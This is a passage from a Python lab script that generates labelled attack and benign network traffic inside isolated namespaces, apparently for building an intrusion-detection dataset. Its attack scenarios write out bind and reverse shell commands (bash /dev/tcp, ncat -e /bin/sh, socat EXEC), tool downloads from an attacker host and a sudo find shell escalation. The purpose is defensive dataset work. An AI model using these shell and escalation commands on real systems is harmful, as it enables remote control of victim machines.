            victim, atk = r.choice([srv, vic]), self.atk()
            port = p.attack_port + i
            impl = r.choice(["socat", "ncat"])
            shell_cmds = ";;".join(
                [
                    *r.sample(
                        [
                            "id",
                            "uname -a",
                            "pwd",
                            "ls -la",
                            "ps aux | head",
                            "cat /etc/issue",
                            "netstat -tn 2>/dev/null | head",
                            "sudo -l",
                        ],
                        4,
                    ),
                    "sudo find /tmp -maxdepth 0 -exec /bin/sh -c id \\;",
                ]
            )

            def bind_go(
                atk: Host = atk, victim: Host = victim, port: int = port, impl: str = impl, shell_cmds: str = shell_cmds
            ) -> None:
                listen = (
                    ["socat", f"TCP-LISTEN:{port},reuseaddr", "EXEC:/bin/sh,stderr"]
                    if impl == "socat"
                    else ["ncat", "-l", "-p", str(port), "-e", "/bin/sh"]
                )
                implant = nspopen(
                    victim.ns, ["timeout", "60", *listen], self.lab.logs / "implants.log", user=USER, name="bindshell"
                )
                time.sleep(1)
                self.x(
                    atk.ns,
                    [
                        PY,
                        AGENTS,
                        "shell",
                        "--mode",
                        "connect",
                        "--host",
                        tgt(victim.v4[0]),
                        "--port",
                        str(port),
                        "--commands",
                        shell_cmds,
                    ],
                    timeout=45,
                )
                kill_proc(implant, signal.SIGTERM, 3)

            add(
                Scenario(
                    f"bindshell-{impl}",
                    "U2R",
                    atk,
                    [victim.v4[0]],
                    impl,
                    f"port {port}; commands",
                    bind_go,
                    12,
                    (impl,),
                )
            )
        # reverse shells: victim connects back to the attacker
        for i in range(2):
            victim, atk = r.choice([srv, vic]), self.atk()
            port = r.choice([443, 4444, 8443, 53, 9001]) + (0 if i == 0 else 1)
            impl = r.choice(["bash", "socat", "ncat"])
            shell_cmds = ";;".join(
                [
                    *r.sample(["id", "uname -a", "hostname", "ls -la /tmp", "cat /etc/os-release", "sudo -l", "w"], 4),
                    "sudo find /tmp -maxdepth 0 -exec /bin/sh -c id \\;",
                ]
            )

            def rev_go(
                atk: Host = atk, victim: Host = victim, port: int = port, impl: str = impl, shell_cmds: str = shell_cmds
            ) -> None:
                a = tgt(atk.v4[0])
                ctl = threading.Thread(
                    target=self.x,
                    args=(
                        atk.ns,
                        [
                            PY,
                            AGENTS,
                            "shell",
                            "--mode",
                            "listen",
                            "--host",
                            a,
                            "--port",
                            str(port),
                            "--wait",
                            "20",
                            "--commands",
                            shell_cmds,
                        ],
                    ),
                    kwargs={"timeout": 45},
                )
                ctl.start()
                time.sleep(1.5)
                cmd = {
                    "bash": ["bash", "-c", f"bash -i >& /dev/tcp/{a}/{port} 0>&1"],
                    "socat": ["socat", f"TCP:{a}:{port}", "EXEC:/bin/sh,stderr"],
                    "ncat": ["ncat", a, str(port), "-e", "/bin/sh"],
                }[impl]
                implant = nspopen(
                    victim.ns, ["timeout", "40", *cmd], self.lab.logs / "implants.log", user=USER, name="revshell"
                )
                ctl.join(50)
                kill_proc(implant, signal.SIGTERM, 3)

            add(
                Scenario(
                    f"revshell-{impl}",
                    "U2R",
                    atk,
                    [victim.v4[0]],
                    impl,
                    f"victim -> attacker:{port}",
                    rev_go,
                    12,
                    (impl,),
                )
            )
        # tool download from the attacker onto the compromised host (then an escalation attempt)
        for _ in range(2):
            victim, atk = r.choice([srv, vic]), self.atk()
            port = p.tools_port
            fetch = r.choice(["wget", "curl"])

            def dl_go(atk: Host = atk, victim: Host = victim, port: int = port, fetch: str = fetch) -> None:
                d = self.lab.w / f"atk-www-{atk.name}"
                d.mkdir(exist_ok=True)
                rr = random.Random(port)
                for fn in ("linpeas.sh", "exploit.c", "pspy64", "lse.sh"):
                    (d / fn).write_bytes(rr.randbytes(rr.randrange(20_000, 900_000)))
                srvp = nspopen(
                    atk.ns,
                    [PY, "-m", "http.server", str(port), "--bind", tgt(atk.v4[0]), "--directory", str(d)],
                    self.lab.logs / "atk-http.log",
                    name="atk-http",
                )
                time.sleep(1.5)
                out = self.lab.w / "home" / USER / ".cache"
                for fn in rr.sample(["linpeas.sh", "exploit.c", "pspy64", "lse.sh"], 2):
                    url = f"http://{tgt(atk.v4[0])}:{port}/{fn}"
                    argv = (
                        ["wget", "-q", "-O", str(out / fn), url]
                        if fetch == "wget"
                        else ["curl", "-s", "-o", str(out / fn), url]
                    )
                    nsx(victim.ns, ["sh", "-c", f"mkdir -p {out} && " + shlex.join(argv)], timeout=20, user=USER)
                # the downloaded files are never executed
                kill_proc(srvp, signal.SIGTERM, 3)

            add(
                Scenario(
                    f"tool-download-{fetch}",
                    "U2R",
                    atk,
                    [victim.v4[0]],
                    fetch,
                    f"victim fetches linpeas/exploit from attacker:{port}",
                    dl_go,
                    8,
                    (fetch,),
                )
            )
        return cat

    def mk(
        self,
        atk: Host,
        argv: list[str],
        timeout: float,
        pre: Callable[[], None] | None = None,
        post: Callable[[], None] | None = None,
    ) -> Callable[[], None]:
        assert_argv_lab(argv)

        def go() -> None:
            if pre:
                pre()
            try:
                self.x(atk.ns, argv, timeout)
                drain(atk.ns)
            finally:
                if post:
                    post()

        return go


def drain(ns: str, limit: float = 12.0) -> None:
    """Wait until the attacker's namespace holds no live TCP connection (killed tools leave FIN/RST exchanges)."""
    t_end = now() + limit
    while now() < t_end:
        r = nsx(
            ns,
            [
                "ss",
                "-H",
                "-tan",
                "state",
                "established",
                "state",
                "syn-sent",
                "state",
                "syn-recv",
                "state",
                "fin-wait-1",
                "state",
                "fin-wait-2",
                "state",
                "last-ack",
                "state",
                "closing",
            ],
            timeout=5,
        )
        if not r.stdout.strip():
            return
        time.sleep(0.5)


def schedule(
    cat: dict[str, list[Scenario]], budget: float, rng: random.Random, gap: tuple[float, float]
) -> list[Scenario]:
    """Interleave the classes in a seeded order; the run goes down this list while its time lasts.

    ``budget`` bounds the list to twice the run's attack time by the scenarios' (pessimistic) estimates."""
    order = ["Probe", "DoS", "R2L", "U2R"]
    queues = {k: list(v) for k, v in cat.items()}
    for q in queues.values():
        rng.shuffle(q)
    out: list[Scenario] = []
    used = 0.0
    while any(queues.values()):
        rng.shuffle(order)
        progressed = False
        for c in order:
            if not queues[c]:
                continue
            s = queues[c].pop(0)
            cost = s.est + (gap[0] + gap[1]) / 2 + 3
            if used + cost <= 2 * budget:
                out.append(s)
                used += cost
                progressed = True
        if not progressed and used > budget * 0.9:
            break
    return out


# ------------------------------------------------------------------ install
def install() -> None:
    log("apt-get install: " + " ".join(PACKAGES))
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    # keep Debian's maintainer scripts from starting the services in the root namespace
    prc = Path("/usr/sbin/policy-rc.d")
    created = False
    if not prc.exists():
        prc.write_text("#!/bin/sh\nexit 101\n")
        prc.chmod(0o755)
        created = True
    try:
        subprocess.run(["apt-get", "update", "-q"], env=env, check=False)
        subprocess.run(["apt-get", "install", "-y", "-q", "--no-install-recommends", *PACKAGES], env=env, check=True)
    finally:
        if created:
            prc.unlink()


# ------------------------------------------------------------------ main
def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--out", type=Path, required=True)
    ap.add_argument("--minutes", type=float, default=10.0)
    ap.add_argument("--install", action="store_true")
    ap.add_argument("--only", default="", help="debugging: regex; run only the matching attack scenarios, all of them")
    ap.add_argument("--warmup", type=float, default=None, help="debugging: benign-only seconds at the start")
    ap.add_argument(
        "--long-lived",
        action="store_true",
        help="clients also keep long-lived connections open in the background (keep-alive polling, idle IMAP and SSH "
        "sessions); off by default so the registered runs (the held-out seed 101 among them) draw what they drew",
    )
    ap.add_argument(
        "--modern-udp",
        action="store_true",
        help="clients also make QUIC-shaped UDP/443 sessions and STUN + RTP voice/video calls to the web host; off by "
        "default so the registered runs draw what they drew",
    )
    ap.add_argument(
        "--start-bursts",
        action="store_true",
        help="clients also start 4-10 short actions at once (mail, names, time, shares, pages, scripted SSH) as at a "
        "login or wake-up; off by default so the registered runs draw what they drew",
    )
    ap.add_argument(
        "--check-python",
        default=str(HERE.parent / ".venv" / "bin" / "python"),
        help="python used for the label self-check (stdlib is enough)",
    )
    a = ap.parse_args()
    if os.geteuid() != 0:
        print("run as root (network namespaces, raw sockets)", file=sys.stderr)
        return 2
    if any(n.startswith(PREFIX) for n in list_netns()):
        print("ntalab-* namespaces exist already: run lab/cleanup.sh first", file=sys.stderr)
        return 2
    if a.install:
        install()
    a.out.mkdir(parents=True, exist_ok=True)
    out = a.out.resolve()
    (out / "logs").mkdir(exist_ok=True)
    for f in ("capture.pcap", "labels.csv", "summary.json"):
        (out / f).unlink(missing_ok=True)
    workdir = Path(f"/tmp/ntalab-{a.seed}")
    shutil.rmtree(workdir, ignore_errors=True)
    workdir.mkdir(mode=0o755)
    t_start = now()
    plan = Plan(a.seed, a.minutes)
    lab = Lab(plan, out, workdir)
    lab.long_lived = a.long_lived
    lab.modern_udp = a.modern_udp
    lab.start_bursts = a.start_bursts
    lab.inventory()
    missing = [t for t, ok in lab.available.items() if not ok]
    if missing:
        log(f"missing tools (their scenarios are skipped): {missing}")
    for t in ("tcpdump", "nginx"):
        if not lab.available.get(t):
            print(f"{t} is required: run with --install", file=sys.stderr)
            return 2
    before = root_snapshot()
    (out / "logs" / "root-before.json").write_text(json.dumps(before, indent=1))
    rows: list[dict] = []
    status = {"ok": False}
    stop_signal: dict[str, int | None] = {"sig": None}

    def on_signal(sig: int, _f: object) -> None:
        stop_signal["sig"] = sig
        STOP.set()
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    route_problems: list[str] = []
    skipped: list[dict] = []
    not_run: list[str] = []
    cap_start = cap_end = 0.0
    try:
        log(
            f"seed {a.seed}: main {plan.main4} {plan.main6}, remote {plan.rem4} {plan.rem6}, spoof {plan.spoof4}, "
            f"domain {plan.domain}"
        )
        lab.build()
        route_problems = lab.check_lab_routes()
        if route_problems:
            raise RuntimeError(f"lab route check failed: {route_problems}")
        lab.setup_user()
        lab.start_servers()
        lab.health()
        attacks = Attacks(lab, a.seed)
        cat = attacks.catalogue()
        warm = plan.rng.uniform(40, 60)
        tail = plan.rng.uniform(20, 30)
        if a.warmup is not None:
            warm = tail = a.warmup
        budget = a.minutes * 60 - warm - tail
        sched_rng = random.Random(a.seed * 31 + 7)
        # drop scenarios whose tool or service is missing, saying why
        for cls, lst in cat.items():
            keep = []
            for s in lst:
                why = [f"tool {t} missing" for t in s.needs if not lab.available.get(t, False)]
                why += [f"service {sv} down" for sv in s.services if not lab.services.get(sv, False)]
                if why:
                    skipped.append({"scenario": s.name, "class": cls, "why": "; ".join(why)})
                else:
                    keep.append(s)
            cat[cls] = keep
        plan_list = schedule(cat, budget, sched_rng, plan.gap)
        if a.only:
            plan_list = [s for c in cat.values() for s in c if re.search(a.only, s.name)]
        log(
            f"{len(plan_list)} attack scenarios in order, run while {budget:.0f}s last: "
            + ", ".join(s.name for s in plan_list)
        )
        cap_start = now()
        lab.start_capture()
        for i, c in enumerate(plan.clients):
            th = threading.Thread(target=Benign(lab, c, a.seed * 100 + i).run, daemon=True, name=c.name)
            th.start()
            lab.benign_threads.append(th)
        log(f"benign traffic from {len(plan.clients)} clients; warm-up {warm:.0f}s")
        STOP.wait(warm)
        for s in plan_list:
            if STOP.is_set():
                break
            if not a.only and now() - cap_start + min(s.est, 90) > a.minutes * 60 - tail:
                not_run.append(s.name)  # out of time (estimates are pessimistic: a shorter one may still fit)
                continue
            for v in [*s.victims, s.attacker.v4[0], *s.extra_attackers]:
                tgt(v)
            t0 = now()
            log(f"{s.cls:5s} {s.name} ({s.attacker.name} -> {' '.join(s.victims)[:60]})")
            try:
                s.run()
            except Exception as e:
                log(f"scenario {s.name} raised {e!r}")
                traceback.print_exc()
            drain(s.attacker.ns)
            STOP.wait(s.settle)
            t1 = now()
            rows.append(
                {
                    "scenario": s.name,
                    "class": s.cls,
                    "start_utc": iso(t0),
                    "end_utc": iso(t1 + 2.0),
                    "attackers": " ".join([*s.attacker.v4, *s.attacker.v6, *s.extra_attackers]),
                    # an IPv6 attack also sends neighbour solicitations to its victim's solicited-node group
                    # the router answers for the other segment (ICMP unreachable, TTL exceeded): its addresses are
                    # victims of every attack window
                    "victims": " ".join(
                        s.victims
                        + (["ff02::1:ff00:0/104"] if any(":" in v for v in s.victims) else [])
                        + [x for x in plan.rtr.v4 + plan.rtr.v6 if x not in s.victims]
                    ),
                    "tool": s.tool,
                    "params": s.params,
                }
            )
            log(f"      done in {t1 - t0:.1f}s")
            STOP.wait(2.0 + plan.rng.uniform(*plan.gap))
        STOP.wait(tail)
        STOP.set()
        for th in lab.benign_threads:
            th.join(70)
        time.sleep(3)
        cap_end = now()
        route_problems = lab.check_lab_routes()
        status["ok"] = True
    except KeyboardInterrupt:
        log(f"interrupted (signal {stop_signal['sig']})")
    except Exception as e:
        log(f"run failed: {e!r}")
        traceback.print_exc()
    finally:
        STOP.set()
        lab.stop_capture()
        for src in workdir.glob("*.log"):
            shutil.copy(src, out / "logs" / src.name)
        lab.teardown()
        shutil.rmtree(workdir, ignore_errors=True)
    after = root_snapshot()
    (out / "logs" / "root-after.json").write_text(json.dumps(after, indent=1))
    root_same = before == after
    if not root_same:
        log("ROOT NAMESPACE CHANGED: see logs/root-before.json and logs/root-after.json")
    # labels
    # One normal window over the whole capture between every non-attacker host (clients, servers, router), so
    # that nta's join calls their flows normal explicitly, even for a host that is also named in an attack
    # window (the forged source of land and smurf); attack windows start later and win where they match.
    benign_addrs = [a for h in plan.all_hosts() if h.role != "attacker" for a in h.v4 + h.v6]
    multicast = [
        "224.0.0.0/4",
        "ff00::/8",
        "fe80::/10",
        str(plan.main4.broadcast_address),
        str(plan.rem4.broadcast_address),
    ]
    normal_row = {
        "scenario": "benign-background",
        "class": "normal",
        "start_utc": iso(cap_start),
        "end_utc": iso((cap_end or now()) + 2.0),
        "attackers": " ".join(benign_addrs),
        "victims": " ".join(benign_addrs + multicast),
        "tool": "curl,wget,ssh,scp,lftp,dig,ping,traceroute,socat,smbclient,python",
        "params": json.dumps(lab.benign_stats, sort_keys=True),
    }
    with open(out / "labels.csv", "w", newline="") as fh:
        wr = csv.DictWriter(
            fh, fieldnames=["scenario", "class", "start_utc", "end_utc", "attackers", "victims", "tool", "params"]
        )
        wr.writeheader()
        wr.writerow(normal_row)
        for r in rows:
            wr.writerow(r)
    meta = {
        "seed": a.seed,
        "minutes": a.minutes,
        "lab_nets": [str(LAB4), str(LAB6)],
        "main4": str(plan.main4),
        "rem4": str(plan.rem4),
        "main6": str(plan.main6),
        "rem6": str(plan.rem6),
        "spoof4": str(plan.spoof4),
        "domain": plan.domain,
        "attacker_addrs": [x for h in plan.attackers for x in h.v4 + h.v6],
        "attacker_only_ranges": [str(plan.spoof4)],
        "hosts": {h.name: {"role": h.role, "seg": h.seg, "v4": h.v4, "v6": h.v6} for h in plan.all_hosts()},
        "params": {
            "syncookies": plan.syncookies,
            "nginx_backlog": plan.nginx_backlog,
            "syn_backlog": plan.syn_backlog,
            "filtered_ports": plan.filtered_ports,
        },
    }
    (out / "lab-meta.json").write_text(json.dumps(meta, indent=1))
    # self-check of the labels against the capture
    check = {"ok": False, "error": "not run"}
    if (out / "capture.pcap").exists():
        py = a.check_python if Path(a.check_python).exists() else sys.executable
        proc = subprocess.run([py, str(HERE / "check.py"), str(out)], capture_output=True, text=True)
        print(proc.stdout, end="")
        if proc.returncode not in (0, 1):
            print(proc.stderr, file=sys.stderr)
        try:
            check = json.loads((out / "check.json").read_text())
        except (OSError, json.JSONDecodeError):
            check = {"ok": False, "error": proc.stderr[-2000:]}
    summary = {
        "seed": a.seed,
        "ok": bool(status["ok"] and root_same and check.get("ok") and not route_problems),
        "run_completed": status["ok"],
        "root_namespace_unchanged": root_same,
        "lab_route_problems": route_problems,
        "wall_seconds": round(now() - t_start, 1),
        "capture_seconds": round((cap_end or now()) - cap_start, 1) if cap_start else 0,
        "capture": str(out / "capture.pcap"),
        "labels": str(out / "labels.csv"),
        "services": lab.services,
        "missing_tools": missing,
        "skipped": skipped,
        "not_run_for_time": not_run,
        "benign_actions": lab.benign_stats,
        "long_lived": lab.long_lived,
        "modern_udp": lab.modern_udp,
        "start_bursts": lab.start_bursts,
        "check": check,
    }
    (out / "summary.json").write_text(json.dumps(summary, indent=1))
    log(
        f"root namespace unchanged: {root_same}; lab routes ok: {not route_problems}; "
        f"label check ok: {check.get('ok')}; skipped: {[s['scenario'] for s in skipped]}"
    )
    log("RESULT: " + ("OK" if summary["ok"] else "FAILED"))
    return 0 if summary["ok"] else (3 if not root_same else 1)


if __name__ == "__main__":
    sys.exit(main())
